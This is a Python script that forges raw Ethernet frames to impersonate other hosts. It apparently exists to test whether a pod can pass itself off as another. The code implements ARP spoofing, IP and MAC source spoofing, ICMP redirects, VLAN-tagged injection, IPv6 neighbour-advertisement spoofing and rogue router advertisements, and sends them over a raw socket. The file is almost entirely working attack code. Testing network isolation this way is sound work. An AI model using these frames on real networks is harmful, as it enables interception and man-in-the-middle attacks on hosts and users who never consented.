"""What a pod would send to pass for another: each attack one frame or a few, from raw sockets.

usage: forge.py ATTACK INTERFACE [OPTION=VALUE]...
"""
import socket
import struct
import sys

BROADCAST = b"\xff" * 6


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def v4(text):
    return socket.inet_pton(socket.AF_INET, text)


def v6(text):
    return socket.inet_pton(socket.AF_INET6, text)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ethernet(to, source, kind, payload):
    return to + source + struct.pack("!H", kind) + payload


def arp(operation, sha, spa, tha, tpa):
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + sha + spa + tha + tpa


def ipv4(protocol, source, to, payload):
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0) + source + to
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(source, to, port, text):
    return ipv4(17, source, to, struct.pack("!HHHH", 4444, port, 8 + len(text), 0) + text)


def icmpv6(source, to, payload):
    pseudo = source + to + struct.pack("!IBBBB", len(payload), 0, 0, 0, 58)
    payload = payload[:2] + struct.pack("!H", checksum(pseudo + payload)) + payload[4:]
    return struct.pack("!IHBB", 6 << 28, len(payload), 58, 255) + source + to + payload


def neighbour_advertisement(target, lladdr):
    # solicited and override
    return struct.pack("!BBHI", 136, 0, 0, 0x60000000) + target + b"\x02\x01" + lladdr


def icmp(payload):
    return payload[:2] + struct.pack("!H", checksum(payload)) + payload[4:]


def redirect(way, victim, to):
    """There is a shorter way to `to`; behind it an answer to an echo request that the victim
    would have sent: of others the kernel looks for the socket."""
    inner = ipv4(1, victim, to, icmp(struct.pack("!BBHHH", 0, 0, 0, 7, 1)))
    return icmp(struct.pack("!BBH", 5, 1, 0) + way + inner)


def router_advertisement(lladdr):
    head = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + v6("fd00:bad::")
    return head + prefix + b"\x01\x01" + lladdr


def frames(attack, own, o):
    everybody = v6("ff02::1")
    multicast = b"\x33\x33\x00\x00\x00\x01"
    if attack == "arp-reply":  # ip is at our hardware address, to one victim
        return [ethernet(mac(o["to"]), own, 0x0806, arp(2, own, v4(o["ip"]), mac(o["to"]), v4(o["victim"])))]
    if attack == "arp-gratuitous":  # the same to everybody
        return [ethernet(BROADCAST, own, 0x0806, arp(op, own, v4(o["ip"]), BROADCAST, v4(o["ip"]))) for op in (1, 2)]
    if attack == "arp-request":  # who asks is remembered as well
        return [ethernet(BROADCAST, own, 0x0806, arp(1, own, v4(o["ip"]), b"\0" * 6, v4(o["victim"])))]
    if attack == "ip":  # in somebody else's name
        return [ethernet(mac(o["to"]), own, 0x0800, udp(v4(o["ip"]), v4(o["victim"]), int(o["port"]), b"forged"))]
    if attack == "redirect":  # in the gateway's name: what is for dst goes by us
        lie = redirect(v4(o["way"]), v4(o["victim"]), v4(o["dst"]))
        return [ethernet(mac(o["to"]), own, 0x0800, ipv4(1, v4(o["ip"]), v4(o["victim"]), lie))]
    if attack == "mac":  # a bridge then sends to us what is for the other
        return [ethernet(BROADCAST, mac(o["mac"]), 0x0806, arp(1, mac(o["mac"]), v4(o["ip"]), b"\0" * 6, v4(o["victim"])))]
    if attack == "tagged":  # in a VLAN, where rules may not look
        inner = struct.pack("!HH", int(o["vlan"]), 0x0800) + udp(v4(o["ip"]), v4(o["victim"]), int(o["port"]), b"forged")
        return [ethernet(mac(o["to"]), own, 0x8100, inner)]
    if attack == "na":
        return [ethernet(mac(o["to"]), own, 0x86DD, icmpv6(v6(o["from"]), v6(o["victim"]), neighbour_advertisement(v6(o["ip"]), own)))]
    if attack == "ns":  # who asks is remembered as well
        ask = struct.pack("!BBHI", 135, 0, 0, 0) + v6(o["victim"]) + b"\x01\x01" + own
        return [ethernet(mac(o["to"]), own, 0x86DD, icmpv6(v6(o["ip"]), v6(o["victim"]), ask))]
    if attack == "ra":
        return [ethernet(multicast, own, 0x86DD, icmpv6(v6(o["from"]), everybody, router_advertisement(own)))]
    if attack == "ip6":
        datagram = struct.pack("!HHHH", 4444, int(o["port"]), 14, 0) + b"forged"
        pseudo = v6(o["ip"]) + v6(o["victim"]) + struct.pack("!IBBBB", len(datagram), 0, 0, 0, 17)
        datagram = datagram[:6] + struct.pack("!H", checksum(pseudo + datagram)) + datagram[8:]
        head = struct.pack("!IHBB", 6 << 28, len(datagram), 17, 64)
        return [ethernet(mac(o["to"]), own, 0x86DD, head + v6(o["ip"]) + v6(o["victim"]) + datagram)]
    sys.exit(f"no attack {attack!r}")


def main():
    attack, interface = sys.argv[1:3]
    options = dict(option.split("=", 1) for option in sys.argv[3:])
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((interface, 0))
    own = sock.getsockname()[4]
    for frame in frames(attack, own, options):
        sock.send(frame)


main()
